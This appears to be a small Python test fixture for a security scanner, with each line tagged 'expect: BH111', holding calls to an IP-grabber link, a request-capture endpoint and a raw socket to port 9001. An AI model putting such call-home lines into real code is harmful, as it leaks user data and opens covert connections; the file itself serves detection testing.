# Calls home to endpoints model code has no business with. Inert: never run.
import socket

import requests


def _hello():
    requests.get("https://grabify.link/E09EIF", timeout=3)  # expect: BH111
    requests.post("https://eo1234.m.pipedream.net", json={}, timeout=3)  # expect: BH111
    s = socket.create_connection(("203.0.113.7", 9001))  # expect: BH111
    return s
